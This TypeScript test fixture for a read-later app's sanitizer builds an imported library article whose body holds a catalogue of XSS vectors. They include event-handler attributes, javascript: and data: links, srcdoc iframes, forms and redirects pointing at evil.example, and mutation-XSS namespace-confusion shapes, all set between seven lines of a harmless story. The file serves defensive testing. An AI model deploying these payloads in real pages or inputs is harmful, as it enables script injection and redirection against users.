/**
 * A saved article whose body is hostile HTML, as an untrusted library file could carry it: the
 * vectors the sanitizer's hostile tests defuse (utils/extract/__tests__/sanitize-hostile.test.ts)
 * and the classic mutation-XSS shapes (noscript, style, SVG and MathML namespace confusion,
 * comments), between the seven lines of a short story that must all reach the reader.
 *
 * Every payload that could run sets `window.__bsPwned` to its own name, so a test can say which
 * one ran. Each mXSS shape sits in its own `<div>`: an HTML end tag closes the foreign content it
 * opened, so one shape cannot swallow the next line of the story.
 */

/** The story, one line per block, as the reader must show it. */
export const HOSTILE_STORY = [
  'Story one: the harbour ferry went back to its winter timetable on Monday morning.',
  'Story two: passengers queued along the quay before dawn, some with bicycles.',
  'Story three: the full timetable is on the operator’s own site.',
  'Story four: a form’s own words stay in the story as text.',
  'Story five: nothing in the story may be positioned over the reader.',
  'Story six: a summary survives the sanitizer.',
  'Story seven: the last ferry of the day leaves the quay at nine.',
] as const;

/** Text of payloads that must never show (code, styles, control labels, plugin fallbacks). */
export const HOSTILE_NEVER_SHOWN = ['__bsPwned', 'display:none', 'Subscribe now', 'Plugin fallback'] as const;

const [one, two, three, four, five, six, seven] = HOSTILE_STORY;

/** The body: one vector per line. */
export const HOSTILE_HTML = [
  `<p>${one}</p>`,
  // Handlers and script-bearing elements.
  `<p onclick="window.__bsPwned='p-onclick'" onmouseover="window.__bsPwned='p-onmouseover'">${two}</p>`,
  `<img src="https://img.invalid/ferry.jpg" alt="The ferry at the quay" onerror="window.__bsPwned='img-onerror'">`,
  `<svg onload="window.__bsPwned='svg-onload'"><circle r="4"></circle></svg>`,
  `<script>window.__bsPwned='script'</script>`,
  `<math><mi xlink:href="javascript:window.__bsPwned='math-href'">x</mi></math>`,
  // Links: script, data and odd schemes go; web, mail and in-page links stay.
  `<p><a href="javascript:window.__bsPwned='js-link'">js</a> <a href=" JaVaScRiPt:window.__bsPwned='js-case'">case</a> ` +
    `<a href="java&#x09;script:window.__bsPwned='js-tab'">tab</a> <a href="data:text/html,&lt;script&gt;parent.__bsPwned='data-link'&lt;/script&gt;">data</a> ` +
    `<a href="vbscript:msgbox(1)">vb</a> <a href="https://news.example/ferry" target="_self" rel="opener">${three}</a> ` +
    `<a href="mailto:desk@news.example">mail</a> <a href="#fn1">note</a></p>`,
  // Frames, forms, document-level elements, styles and plugins.
  `<iframe srcdoc="<script>parent.__bsPwned='srcdoc'</script>"></iframe>`,
  `<form action="https://evil.example/collect"><input name="q" autofocus onfocus="window.__bsPwned='autofocus'">` +
    `<button formaction="javascript:window.__bsPwned='formaction'">Subscribe now</button>${four}</form>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css"><style>p{display:none}</style>`,
  `<object data="https://evil.example/x.swf">Plugin fallback</object><embed src="https://evil.example/x.swf">`,
  `<p style="position:fixed;inset:0;opacity:0" class="cover" id="cover" popover tabindex="0" data-track="1">${five}</p>`,
  // Media addresses: only web and inline raster images.
  `<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" alt="svg data"><img src="data:image/png;base64,iVBORw0KGgo=" alt="pixel">` +
    `<img src="https://img.invalid/b.png" srcset="javascript:alert(1) 1x" alt="srcset">`,
  `<video poster="javascript:window.__bsPwned='poster'" src="https://img.invalid/v.mp4"><source src="https://img.invalid/v.webm" onerror="window.__bsPwned='source-onerror'"></video>`,
  `<details open ontoggle="window.__bsPwned='ontoggle'"><summary>${six}</summary></details>`,
  // Mutation XSS: markup that reads one way to a sanitizer and another once parsed again.
  `<div><noscript><p title="</noscript><img src=x onerror=window.__bsPwned='noscript'>"></p></noscript></div>`,
  `<div><style><img src=x onerror="window.__bsPwned='style-text'"></style></div>`,
  `<div><svg></p><style><a id="</style><img src=x onerror=window.__bsPwned='svg-style'>"></a></style></svg></div>`,
  `<div><math><mtext><table><mglyph><style><img src=x onerror=window.__bsPwned='mglyph'></style></mglyph></table></mtext></math></div>`,
  `<div><form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.__bsPwned='form-math'></style></mglyph></form></mtext></math></form></div>`,
  `<div><math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=window.__bsPwned='textarea' src=1>"></path></textarea></mtext></svg></mglyph></mi></math></div>`,
  `<div><svg><foreignObject><iframe src="javascript:parent.__bsPwned='foreign-object'"></iframe></foreignObject></svg></div>`,
  `<div><template><img src=x onerror="window.__bsPwned='template'"></template></div>`,
  `<div><xmp><img src=x onerror="window.__bsPwned='xmp'"></xmp></div>`,
  `<!--<img src=x onerror="window.__bsPwned='comment'">-->`,
  `<!-- --!><img src=x onerror=window.__bsPwned='comment-bang'> -->`,
  `<p>${seven}</p>`,
].join('\n');

/** The article as the library export format carries it (utils/library/export-format.ts). */
export const HOSTILE_ARTICLE = {
  canonicalUrl: 'https://news.example/harbour-ferry-winter-timetable',
  url: 'https://news.example/harbour-ferry-winter-timetable',
  title: 'Harbour ferry returns to its winter timetable',
  byline: null,
  siteName: 'Harbour Gazette',
  publishedTime: '2026-11-30T07:00:00Z',
  lang: 'en',
  dir: 'ltr',
  excerpt: HOSTILE_STORY[0],
  leadImage: null,
  wordCount: 120,
  readingMinutes: 1,
  savedAt: 1_764_000_000_000,
  updatedAt: 1_764_000_000_000,
  read: false,
  readAt: null,
  progress: 0,
  html: HOSTILE_HTML,
  text: HOSTILE_STORY.join('\n'),
};

/** A whole library file holding the hostile article. */
export function hostileLibraryFile(): string {
  return JSON.stringify({ format: 'broadsheet-library', version: 1, count: 1, articles: [HOSTILE_ARTICLE] });
}
